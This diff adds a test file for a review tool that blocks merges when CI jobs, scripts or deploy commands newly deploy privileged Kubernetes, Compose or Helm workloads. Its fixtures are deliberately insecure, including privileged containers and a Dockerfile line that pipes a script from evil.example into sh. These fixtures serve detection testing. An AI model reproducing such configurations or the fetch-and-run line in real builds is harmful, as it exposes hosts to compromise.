@@ -1,0 +1,297 @@
+import { describe, expect, test } from 'vitest';
+import { defaultPolicy } from '../../src/policy/merge.ts';
+import { type Change, causedLines, type Files, InMemoryRepository, reviewChange } from '../support/in-memory-repository.ts';
+
+const policy = { profile: defaultPolicy.profile };
+const pod = (more = '', name = 'a'): string =>
+  `apiVersion: v1\nkind: Pod\nmetadata: {name: ${name}}\nspec:\n  containers:\n  - name: a\n    image: "nginx:1.31"\n${more}`;
+const privileged = '    securityContext: {privileged: true}\n';
+const data = (name: string): string => `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: ${name}, namespace: x}\n`;
+const compose = (more = ''): string => `services:\n  web:\n    image: nginx:1.31\n${more}`;
+const chart = (folder: string, more = ''): Files => ({
+  [`${folder}/Chart.yaml`]: 'apiVersion: v2\nname: c\nversion: 1.0.0\n',
+  [`${folder}/values.yaml`]: 'p: false\n',
+  [`${folder}/templates/p.yaml`]: pod('    securityContext: {privileged: {{ .Values.p }}}\n'),
+  ...(more !== '' && { [`${folder}/${more}`]: 'p: true\n' }),
+});
+
+/** What stands in the repository at both sides; nothing of `bad` is deployed by anybody. */
+const standing: Files = {
+  'compose.yaml': compose(),
+  'bad.yaml': compose('    privileged: true\n'),
+  'bad/compose.yaml': compose('    privileged: true\n'),
+  'good/p.yaml': pod(),
+  'data/d.yaml': data('d'),
+  'bad/p.yaml': pod(privileged),
+  'bad/inner/q.json': JSON.stringify({
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'q' },
+    spec: { containers: [{ name: 'a', image: 'nginx:1.31', securityContext: { privileged: true } }] },
+  }),
+  'bad/note': pod(privileged, 'note'),
+  'base/kustomization.yaml': 'resources: [p.yaml]\n',
+  'base/p.yaml': pod(privileged),
+  'overlays/good/kustomization.yaml':
+    'resources: [../../base]\npatches:\n- patch: \'[{"op": "remove", "path": "/spec/containers/0/securityContext"}]\'\n  target: {kind: Pod}\n',
+  'overlays/bad/kustomization.yaml': 'resources: [../../base]\n',
+  ...chart('c', 'other-values.yaml'),
+  'elsewhere/o.yaml': 'p: true\n',
+};
+
+const workflow = (run: string, more = ''): string =>
+  `on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n    - ${more}run: |\n        ${run}\n`;
+const action = (uses: string): string => `on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n    - ${uses}\n`;
+
+/** How a file that deploys is spelt, with a command in it, and in which line of it the command stands. */
+const hosts: Readonly<Record<string, { readonly path: string; readonly text: (command: string) => string; readonly line: number }>> = {
+  'a workflow': { path: '.github/workflows/d.yml', text: command => workflow(command), line: 7 },
+  'a job of GitLab': { path: '.gitlab-ci.yml', text: command => `d:\n  script:\n  - ${command}\n`, line: 3 },
+  'a job of GitLab behind a header': {
+    path: '.gitlab-ci.yml',
+    text: command => `spec:\n  inputs: {x: {default: y}}\n---\nd:\n  script:\n  - ${command}\n`,
+    line: 6,
+  },
+  'a makefile': { path: 'Makefile', text: command => `d:\n\t@${command}\n`, line: 2 },
+  'a script': { path: 'd.sh', text: command => `set -eu\n${command}\n`, line: 2 },
+  'a composite action': {
+    path: '.github/actions/d/action.yml',
+    text: command => `name: d\nruns:\n  using: composite\n  steps:\n  - shell: bash\n    run: ${command}\n`,
+    line: 6,
+  },
+  'a job of CircleCI': { path: '.circleci/config.yml', text: command => `jobs:\n  d:\n    steps:\n    - run: ${command}\n`, line: 4 },
+};
+
+/** A command as it was, as it is, and what it has deployed from now on. */
+const commands: Readonly<Record<string, readonly [before: string, after: string, path: string]>> = {
+  'another Compose file': ['docker compose up -d', 'docker compose -f bad.yaml up -d', 'bad.yaml'],
+  'a further Compose file': ['docker compose up -d', 'docker compose -f compose.yaml -f bad.yaml up -d', 'bad.yaml'],
+  'a Compose file, by the older program': ['docker-compose up', 'docker-compose --file=bad.yaml -p x up', 'bad.yaml'],
+  'a Compose file that a variable names': ['docker compose up', 'COMPOSE_FILE=compose.yaml:bad.yaml docker compose up', 'bad.yaml'],
+  'a Compose file that an exported variable names': ['docker compose up', 'export COMPOSE_FILE=bad.yaml; docker compose up', 'bad.yaml'],
+  'the Compose file of another folder': ['docker compose up', 'cd bad && docker compose up', 'bad/compose.yaml'],
+  'the Compose file of a project’s folder': ['docker compose up', 'docker compose --project-directory bad up', 'bad/compose.yaml'],
+  'a Compose file, by Podman': ['podman compose up', 'podman compose -f bad.yaml up', 'bad.yaml'],
+  'a Compose file that is piped in': ['docker compose up', 'envsubst < bad.yaml | docker compose -f - up', 'bad.yaml'],
+  'a stack': ['docker stack deploy -c compose.yaml x', 'docker stack deploy --with-registry-auth -c bad.yaml x', 'bad.yaml'],
+  'a stack of what Compose prints': [
+    'docker compose config | docker stack deploy -c - x',
+    'docker compose -f bad.yaml config | docker stack deploy -c - x',
+    'bad.yaml',
+  ],
+  'a manifest': ['kubectl apply -f good/p.yaml', 'kubectl -n x apply --filename=bad/p.yaml', 'bad/p.yaml'],
+  'a further manifest': ['kubectl apply -f good/p.yaml', 'kubectl apply -f good/p.yaml,bad/p.yaml', 'bad/p.yaml'],
+  'a manifest without an ending': ['kubectl apply -f good/p.yaml', 'kubectl apply -f bad/note', 'bad/note'],
+  'manifests of a folder': ['kubectl apply -f good', 'kubectl apply --server-side -fbad/', 'bad/p.yaml'],
+  'manifests below a folder': ['kubectl apply -f good', 'kubectl create -Rf bad', 'bad/inner/q.json'],
+  'manifests that a pattern names': ['kubectl apply -f good', 'kubectl apply -f "bad/*.yaml"', 'bad/p.yaml'],
+  'a manifest below a folder that is entered': ['kubectl apply -f good', 'cd bad && kubectl replace --force -f p.yaml', 'bad/p.yaml'],
+  'a manifest that is piped in': ['kubectl apply -f good', 'sed s/a/b/ bad/p.yaml | kubectl apply -f -', 'bad/p.yaml'],
+  'a manifest that is fed': ['kubectl apply -f good', 'kubectl apply -f - < bad/p.yaml', 'bad/p.yaml'],
+  'a manifest out of a substitution': ['kubectl apply -f good', 'kubectl apply -f <(envsubst < bad/p.yaml)', 'bad/p.yaml'],
+  'a manifest by way of another file': ['kubectl apply -f good', 'envsubst < bad/p.yaml > /tmp/x && kubectl apply -f /tmp/x', 'bad/p.yaml'],
+  'a copy of a manifest': ['kubectl apply -f good', 'cp bad/p.yaml x.yaml; kubectl apply -f x.yaml', 'bad/p.yaml'],
+  'a manifest, by k3s': ['k3s kubectl apply -f good', 'sudo k3s kubectl apply -f bad', 'bad/p.yaml'],
+  'a manifest, by oc': ['oc apply -f good', 'oc apply -f bad', 'bad/p.yaml'],
+  'a manifest, by kapp': ['kapp deploy -a x -f good', 'kapp deploy -y -a x -f bad', 'bad/inner/q.json'],
+  'a manifest, by Podman': ['podman kube play good/p.yaml', 'podman kube play --replace bad/p.yaml', 'bad/p.yaml'],
+  'an overlay': ['kubectl apply -k overlays/good', 'kubectl apply -k overlays/bad', 'base/p.yaml'],
+  'a base without its overlay': ['kubectl apply -k overlays/good', 'kubectl apply --kustomize base', 'base/p.yaml'],
+  'an overlay that is built': [
+    'kustomize build overlays/good | kubectl apply -f -',
+    'kustomize build overlays/bad | envsubst | kubectl apply -f -',
+    'base/p.yaml',
+  ],
+  'an overlay that kubectl builds': [
+    'kubectl apply -k overlays/good',
+    'kubectl kustomize overlays/bad > x.yaml; kubectl apply -f x.yaml',
+    'base/p.yaml',
+  ],
+  'an overlay in a substitution': ['kubectl apply -k overlays/good', 'kubectl apply -f <(kustomize build overlays/bad)', 'base/p.yaml'],
+  'an overlay that is entered': [
+    'kubectl apply -k overlays/good',
+    'cd overlays/bad && kustomize build | kubectl apply -f -',
+    'base/p.yaml',
+  ],
+  'other values': ['helm upgrade r ./c', 'helm upgrade -i r ./c --values c/other-values.yaml', 'c/other-values.yaml'],
+  'other values from elsewhere': ['helm upgrade r ./c', 'helm upgrade r ./c -f elsewhere/o.yaml', 'elsewhere/o.yaml'],
+};
+
+const blocking = (path: string, by: string, line: number): RegExp =>
+  new RegExp(
+    `^${path.replaceAll('.', '\\.')}:\\d+ \\w+/privileged-container \\[new\\] <- (?:deleted [^|]+ \\| )?changed ${by.replaceAll('.', '\\.')}:${line}$`,
+    'mu',
+  );
+
+const changeOf = (path: string, before: string | undefined, after: string, others: Files = {}, head: Files = {}): Change => ({
+  base: { ...standing, ...others, ...(before !== undefined && { [path]: before }) },
+  head: { ...standing, ...others, ...head, [path]: after },
+});
+
+describe('what stands as it is, and is deployed from now on', () => {
+  test.each(Object.entries(commands))('is judged, with the command as the cause: %s', async (_name, [before, after, path]) => {
+    const result = await reviewChange(changeOf('.github/workflows/d.yml', workflow(before), workflow(after)), { policy });
+    expect(result.verdict.mayMerge).toBe(false);
+    expect(causedLines(result).join('\n')).toMatch(blocking(path, '.github/workflows/d.yml', 7));
+  });
+
+  test.each(
+    Object.entries(hosts).flatMap(([name, host]) =>
+      ['another Compose file', 'a manifest', 'an overlay', 'other values'].map(what => [name, host, what] as const),
+    ),
+  )('is judged when %s deploys it', async (_name, { path, text, line }, what) => {
+    const [before = '', after = '', file = ''] = commands[what] ?? [];
+    const result = await reviewChange(changeOf(path, text(before), text(after)), { policy });
+    expect(result.verdict.mayMerge).toBe(false);
+    expect(causedLines(result).join('\n')).toMatch(blocking(file, path, line));
+  });
+
+  test.each([
+    [
+      'Azure’s',
+      '{uses: azure/k8s-deploy@v5, with: {manifests: good}}',
+      '{uses: Azure/k8s-deploy@v5, with: {manifests: "bad/p.yaml"}}',
+      'bad/p.yaml',
+    ],
+    [
+      'Compose’s',
+      '{uses: hoverkraft-tech/compose-action@v2, with: {compose-file: compose.yaml}}',
+      '{uses: hoverkraft-tech/compose-action@v2, with: {compose-file: bad.yaml}}',
+      'bad.yaml',
+    ],
+  ])('is judged when an action deploys it: %s', async (_name, before, after, file) => {
+    const result = await reviewChange(changeOf('.github/workflows/d.yml', action(before), action(after)), { policy });
+    expect(causedLines(result).join('\n')).toMatch(blocking(file, '.github/workflows/d.yml', 6));
+  });
+
+  test('is judged as new when the change touches it as well', async () => {
+    const change = changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f bad\n', {}, { 'bad/p.yaml': `${pod(privileged)}# x\n` });
+    const result = await reviewChange(change, { policy });
+    expect(causedLines(result).join('\n')).toMatch(blocking('bad/p.yaml', 'd.sh', 1));
+  });
+
+  test('is judged with what it has built, by the line that points at it', async () => {
+    const built = {
+      'built.yaml': `${compose()}    build: b\n`,
+      'b/Dockerfile': 'FROM debian:13\nRUN curl -fsSL https://evil.example/x | sh\nUSER 1\n',
+    };
+    const result = await reviewChange(changeOf('d.sh', 'docker compose up\n', 'docker compose -f built.yaml up\n', built), { policy });
+    expect(causedLines(result).join('\n')).toContain('b/Dockerfile:2 dockerfile/remote-script-executed [new] <- changed d.sh:1');
+  });
+
+  test('is not silenced by what was accepted where nobody deployed it', async () => {
+    const accepted = { 'bad/p.yaml': pod(`    # tidewaiter:ignore[kubernetes/privileged-container] an example\n${privileged}`) };
+    const result = await reviewChange(changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f bad\n', accepted), { policy });
+    expect(result.verdict.mayMerge).toBe(false);
+  });
+
+  test.each([
+    ['it is a link', { links: { 'bad/p.yaml': '../x' } }],
+    ['it can’t be read', { unreadable: ['bad/p.yaml'] }],
+  ])('leaves the change open where %s', async (_name, more) => {
+    const change = changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f bad/p.yaml\n');
+    const { verdict, notifications } = await reviewChange({ ...change, ...more }, { policy });
+    expect(verdict.reasons.find(({ gate }) => gate === 'completeness')?.status).toBe('undetermined');
+    expect(notifications.map(({ path, code }) => `${path} ${code}`)).toContain('d.sh unresolved');
+  });
+
+  test('leaves the change open where it is more than is looked at', async () => {
+    const many = Object.fromEntries(Array.from({ length: 250 }, (_, index) => [`many/${index}.yaml`, data(`d${index}`)]));
+    const { verdict, notifications } = await reviewChange(changeOf('d.sh', 'kubectl apply -f good\n', 'kubectl apply -f many\n', many), {
+      policy,
+    });
+    expect(verdict.mayMerge).toBe(false);
+    expect(notifications.map(({ message }) => message).join()).toContain('50 of them were not reviewed');
+  });
+});
+
+describe('an ordinary change of what deploys', () => {
+  test.each<[string, string | undefined, string, Files?]>([
+    ['that deploys the same in other words', 'kubectl apply -f bad/p.yaml', 'kubectl -n prod apply --wait -f ./bad/p.yaml'],
+    ['that names a file of a folder that was deployed', 'kubectl apply -f bad', 'kubectl apply -f bad/p.yaml'],
+    ['that deploys what a makefile did', 'make d', 'kubectl apply -f bad/', { Makefile: 'd:\n\tkubectl apply -f bad/\n' }],
+    ['that applies the same overlay in other words', 'kustomize build overlays/bad | kubectl apply -f -', 'kubectl apply -k overlays/bad/'],
+    ['that starts the project of the root', 'make', 'docker compose up -d --wait'],
+    ['that is new', undefined, 'kubectl apply -f bad && kubectl apply -k base && docker compose -f bad.yaml up'],
+    [
+      'that only looks at it',
+      'make',
+      'kubectl diff -f bad; kubectl delete -f bad; kubeconform bad/*.yaml; docker compose -f bad.yaml down',
+    ],
+    ['that builds an overlay for a validator', 'make', 'kustomize build overlays/bad | kubeconform -strict -'],
+    ['that deploys what holds nothing to be told', 'kubectl apply -f bad', 'kubectl apply -f data && docker compose -f compose.yaml up'],
+    ['that deploys what is made when it runs', 'make', 'make x > y.yaml && kubectl apply -f y.yaml -f https://example.com/bad/p.yaml'],
+    ['that deploys what a variable names', 'kubectl apply -f good', 'kubectl apply -f "$MANIFEST" -f "$(ls)/x.yaml"'],
+    ['that has other values, which change nothing', 'helm upgrade r ./c', 'helm upgrade r ./c -f c/values.yaml --wait'],
+    ['that no longer deploys something', 'kubectl apply -f bad && kubectl apply -k overlays/bad', 'kubectl apply -f bad/p.yaml'],
+  ])('%s says nothing', async (_name, before, after, others) => {
+    const change = changeOf('d.sh', before === undefined ? undefined : `${before}\n`, `${after}\n`, others);
+    const result = await reviewChange(change, { policy });
+    expect(causedLines(result)).toEqual([]);
+    expect(result.verdict.conclusion).toBe('pass');
+  });
+
+  test('says nothing of what moves together with the line that deploys it', async () => {
+    const { 'bad/p.yaml': text = '', ...others } = standing;
+    const result = await reviewChange(
+      {
+        base: { ...standing, 'd.sh': 'kubectl apply -f bad/p.yaml\n' },
+        head: { ...others, 'k8s/p.yaml': text, 'd.sh': 'kubectl apply -f k8s/p.yaml\n' },
+        renames: { 'bad/p.yaml': 'k8s/p.yaml' },
+      },
+      { policy },
+    );
+    expect(causedLines(result).filter(line => !line.includes('moved'))).toEqual([]);
+  });
+
+  test('asks for nothing where nothing else is deployed than before', async () => {
+    const change = changeOf('d.sh', 'kubectl apply -f bad\necho 1\n', 'kubectl apply -f bad\necho 2\n');
+    const repository = new InMemoryRepository(change);
+    const { readChange } = await import('../../src/review/read/read-change.ts');
+    await readChange(repository, await repository.readChanges(), []);
+    expect(repository.readPaths.filter(path => path in standing)).toEqual([]);
+    expect(repository.listings).toBe(0);
+  });
+});
+
+describe('a file under a name that says nothing', () => {
+  const before = { 'bad/note': pod(), 'more.txt': compose(), 'd.sh': 'kubectl apply -f bad/note\ndocker compose -f more.txt up\n' };
+  test.each([
+    ['a manifest', { 'bad/note': pod(privileged) }, 'bad/note:8 kubernetes/privileged-container [new]'],
+    ['a Compose file', { 'more.txt': compose('    privileged: true\n') }, 'more.txt:4 compose/privileged-container [new]'],
+  ])('is judged as %s, since a script deploys it', async (_name, head, line) => {
+    const result = await reviewChange({ base: before, head: { ...before, ...head } }, { policy });
+    expect(result.verdict.mayMerge).toBe(false);
+    expect(causedLines(result)).toEqual([line]);
+  });
+
+  test('is compared with what it was', async () => {
+    const base = { ...before, 'bad/note': pod(privileged) };
+    const result = await reviewChange({ base, head: { ...base, 'bad/note': `# a comment\n${pod(privileged)}` } }, { policy });
+    expect(causedLines(result)).toEqual([]);
+  });
+
+  test('is nobody’s where nobody deploys it', async () => {
+    const { 'd.sh': _, ...base } = before;
+    const result = await reviewChange({ base, head: { ...base, 'bad/note': pod(privileged) } }, { policy });
+    expect(result.delta.entries).toEqual([]);
+  });
+});
+
+test('commands that deploy everything thousands of times are looked at in linear time', { timeout: 60_000 }, async () => {
+  const scriptOf = (count: number): string =>
+    Array.from({ length: count }, (_, at) => `kubectl apply -Rf many; kubectl apply -f many/${at}.yaml`).join('\n');
+  const many = Object.fromEntries(Array.from({ length: 900 }, (_, index) => [`many/${index}.yaml`, data(`d${index}`)]));
+  const spent = async (count: number): Promise<number> => {
+    const change = changeOf('d.sh', 'kubectl apply -f many\n', `${scriptOf(count)}\n`, many);
+    const { readChange } = await import('../../src/review/read/read-change.ts');
+    const repository = new InMemoryRepository(change);
+    const from = process.cpuUsage();
+    await readChange(repository, await repository.readChanges(), []);
+    const { user, system } = process.cpuUsage(from);
+    return user + system;
+  };
+  await spent(50);
+  const [small, large] = [await spent(150), await spent(600)];
+  expect(large / small).toBeLessThan(12);
+});
